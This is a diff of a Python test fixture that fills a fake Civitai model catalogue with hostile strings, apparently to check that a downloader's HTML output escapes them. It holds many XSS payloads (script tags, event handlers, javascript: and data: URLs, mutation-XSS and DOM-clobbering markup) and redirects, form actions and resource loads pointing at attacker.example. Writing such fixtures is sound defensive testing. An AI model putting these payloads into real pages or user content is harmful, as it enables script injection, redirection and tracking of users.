@@ -1,4 +1,4 @@
-"""A Civitai whose every name, prompt and description tries to run something in a reader's browser."""
+"""A Civitai whose names, prompts and descriptions try to run something in a browser."""
 
 from __future__ import annotations
 
@@ -8,27 +8,27 @@ from pathlib import Path
 from civitai_dl.testing import FakeFile, FakeImage, FakeModel, FakeVersion, World
 
 FIRST = 400_001
-RUN = "window.ran=1,alert(1)"
+JS = "window.ran=1,alert(1)"
 AWAY = "http://attacker.example"
 
 TEXTS = (
-    f"<script>{RUN}</script>",
-    f'"><img src=x onerror="{RUN}">',
-    f"'><svg onload='{RUN}'>",
-    f"</title><script>{RUN}</script>",
-    f"</textarea></select></style><script>{RUN}</script>",
-    f"<!--><img src=x onerror={RUN}>-->",
+    f"<script>{JS}</script>",
+    f'"><img src=x onerror="{JS}">',
+    f"'><svg onload='{JS}'>",
+    f"</title><script>{JS}</script>",
+    f"</textarea></select></style><script>{JS}</script>",
+    f"<!--><img src=x onerror={JS}>-->",
     "{{7*7}} {% for x in y %} ${7*7} <%= 7*7 %>",
-    f'" autofocus tabindex=1 onfocus="{RUN}" x="',
-    f"` onmouseover={RUN} x=`",
-    f"javascript:{RUN}//",
-    f"data:text/html,<script>{RUN}</script>",
+    f'" autofocus tabindex=1 onfocus="{JS}" x="',
+    f"` onmouseover={JS} x=`",
+    f"javascript:{JS}//",
+    f"data:text/html,<script>{JS}</script>",
     "invoice\u202egnp.exe\u2066\u200b",
-    f"&lt;script&gt;{RUN}&lt;/script&gt; &#34;&#x3e;",
-    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
+    f"&lt;script&gt;{JS}&lt;/script&gt; &#34;&#x3e;",
+    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
     f'<meta http-equiv="refresh" content="0;url={AWAY}/">',
     f'<base href="{AWAY}/"><link rel=prefetch href="{AWAY}/p">',
-    f"\\\"-{RUN}-\\\"';{RUN}//",
+    f'\\"-{JS}-\\"\';{JS}//',
     f"</code></p></a></dialog><form action={AWAY}/><button>go",
     f'<a id="lightbox" name="results" class="unveil" data-copy="x" href="{AWAY}">clobbered</a>',
     f"<img src={AWAY}/pixel.png srcset={AWAY}/2.png>",
@@ -36,37 +36,65 @@ TEXTS = (
 """What stands where plain text belongs."""
 
 HTML = (
-    f"<script>{RUN}</script><SCRIPT SRC={AWAY}/x.js></SCRIPT><script type=module>{RUN}</script>",
-    f"<h1 onclick='{RUN}' onmouseover={RUN} style='background:url({AWAY}/bg)'>handlers</h1>"
-    f"<img src=x onerror={RUN}><body onload={RUN}><input autofocus onfocus={RUN}>"
-    f"<details open ontoggle={RUN}>x</details><video src=x onerror={RUN}></video>",
-    f"<a href='javascript:{RUN}'>one</a><a href='&#106;avascript:{RUN}'>two</a>"
-    f"<a href=' java\tscript:{RUN}'>three</a><a href='data:text/html,<script>{RUN}</script>'>4</a>"
-    f"<a href='vbscript:x'>5</a><a href='https://civitai.com/' ping='{AWAY}/ping'>6</a>",
-    f"<svg onload={RUN}><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>s</text></a>"
-    f"<use href='data:image/svg+xml,<svg onload={RUN}>'/><animate onbegin={RUN} attributeName=x>"
-    f"<foreignObject><iframe src='javascript:{RUN}'></iframe></foreignObject></svg>",
-    f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>"
-    f"<iframe src='{AWAY}/frame'></iframe><object data='{AWAY}/o'></object><embed src='{AWAY}/e'>"
-    f"<portal src='{AWAY}'></portal><frameset onload={RUN}><applet code=x></applet>",
-    f"<style>@import url({AWAY}/i.css);body{{background:url({AWAY}/bg.png);display:none}}</style>"
-    f"<link rel=stylesheet href={AWAY}/s.css><link rel=dns-prefetch href={AWAY}>"
-    f"<p style='position:fixed;inset:0;background:url({AWAY}/p)'>covered</p>",
-    f"<meta http-equiv=refresh content='0;url={AWAY}/'><base href='{AWAY}/'>"
-    f"<form action='{AWAY}/'><input name=q><button formaction='javascript:{RUN}'>go</button></form>"
-    f"<isindex action={AWAY}><keygen autofocus onfocus={RUN}>",
-    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}"
-    f"&gt;'><math><mi//xlink:href='data:x,<script>{RUN}</script>'></math>",
-    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>"
-    f"<template><img src=x onerror={RUN}></template><xmp><p title='</xmp><img onerror={RUN} src=x>'>"
-    f"<!--<img src='--><img src=x onerror={RUN}//'><![CDATA[<script>{RUN}</script>]]>",
-    f"<img src='{AWAY}/pixel.gif' srcset='{AWAY}/2x 2x'><video poster='{AWAY}/p.png' autoplay>"
-    f"<source src='{AWAY}/v.mp4'></video><audio src='{AWAY}/a.mp3' autoplay></audio>"
-    f"<table background='{AWAY}/t.png'><tr><td>x</td></tr></table><picture><source srcset={AWAY}>",
-    "<a id=said name=body>1</a><form id=results name=documentElement><input name=children></form>"
-    "<img id=mature name=querySelector><div class='unveil veiled shot open' data-copy='evil' "
-    "data-more data-grid>2</div><dialog id=lightbox open><div class=stage></div></dialog>",
-    f"</div></section></main></body></html><script>{RUN}</script><plaintext><b>the rest",
+    f"<script>{JS}</script><SCRIPT SRC={AWAY}/x.js></SCRIPT><script type=module>{JS}</script>",
+    (
+        f"<h1 onclick='{JS}' onmouseover={JS} style='background:url({AWAY}/bg)'>handlers</h1>"
+        f"<img src=x onerror={JS}><body onload={JS}><input autofocus onfocus={JS}>"
+        f"<details open ontoggle={JS}>x</details><video src=x onerror={JS}></video>"
+    ),
+    (
+        f"<a href='javascript:{JS}'>one</a><a href='&#106;avascript:{JS}'>two</a>"
+        f"<a href=' java\tscript:{JS}'>three</a><a href='data:text/html,"
+        f"<script>{JS}</script>'>4</a>"
+        f"<a href='vbscript:x'>5</a><a href='https://civitai.com/' ping='{AWAY}/ping'>6</a>"
+    ),
+    (
+        f"<svg onload={JS}><script>{JS}</script><a xlink:href='javascript:{JS}'><text>s</text></a>"
+        f"<use href='data:image/svg+xml,<svg onload={JS}>'/><animate onbegin={JS} attributeName=x>"
+        f"<foreignObject><iframe src='javascript:{JS}'></iframe></foreignObject></svg>"
+    ),
+    (
+        f"<iframe src='javascript:{JS}'></iframe><iframe srcdoc='<script>{JS}</script>'></iframe>"
+        f"<iframe src='{AWAY}/frame'></iframe><object data='{AWAY}/o'></object>"
+        f"<embed src='{AWAY}/e'>"
+        f"<portal src='{AWAY}'></portal><frameset onload={JS}><applet code=x></applet>"
+    ),
+    (
+        f"<style>@import url({AWAY}/i.css);body{{background:url({AWAY}/bg.png);display:none}}</style"
+        ">"
+        f"<link rel=stylesheet href={AWAY}/s.css><link rel=dns-prefetch href={AWAY}>"
+        f"<p style='position:fixed;inset:0;background:url({AWAY}/p)'>covered</p>"
+    ),
+    (
+        f"<meta http-equiv=refresh content='0;url={AWAY}/'><base href='{AWAY}/'>"
+        f"<form action='{AWAY}/'><input name=q>"
+        f"<button formaction='javascript:{JS}'>go</button></form>"
+        f"<isindex action={AWAY}><keygen autofocus onfocus={JS}>"
+    ),
+    (
+        "<math><mtext><table><mglyph><style><!--</style>"
+        f"<img title='--&gt;&lt;img src=1 onerror={JS}"
+        f"&gt;'><math><mi//xlink:href='data:x,<script>{JS}</script>'></math>"
+    ),
+    (
+        f"<noscript><p title='</noscript><img src=x onerror={JS}>'></noscript>"
+        f"<template><img src=x onerror={JS}></template><xmp><p title='</xmp>"
+        f"<img onerror={JS} src=x>'>"
+        f"<!--<img src='--><img src=x onerror={JS}//'><![CDATA[<script>{JS}</script>]]>"
+    ),
+    (
+        f"<img src='{AWAY}/pixel.gif' srcset='{AWAY}/2x 2x'><video poster='{AWAY}/p.png' autoplay>"
+        f"<source src='{AWAY}/v.mp4'></video><audio src='{AWAY}/a.mp3' autoplay></audio>"
+        f"<table background='{AWAY}/t.png'><tr><td>x</td></tr></table><picture>"
+        f"<source srcset={AWAY}>"
+    ),
+    (
+        "<a id=said name=body>1</a><form id=results name=documentElement>"
+        "<input name=children></form>"
+        "<img id=mature name=querySelector><div class='unveil veiled shot open' data-copy='evil' "
+        "data-more data-grid>2</div><dialog id=lightbox open><div class=stage></div></dialog>"
+    ),
+    f"</div></section></main></body></html><script>{JS}</script><plaintext><b>the rest",
 )
 """What stands where a description belongs."""
 
